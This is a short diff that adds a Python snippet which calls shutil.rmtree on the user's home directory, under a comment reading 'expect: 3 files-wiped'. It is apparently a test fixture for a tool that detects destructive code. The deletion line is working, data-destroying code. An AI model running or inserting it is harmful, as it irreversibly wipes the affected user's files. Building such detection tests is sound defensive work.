@@ -1,0 +1,3 @@
+# expect: 3 files-wiped
+import shutil, os
+shutil.rmtree(os.path.expanduser('~'))
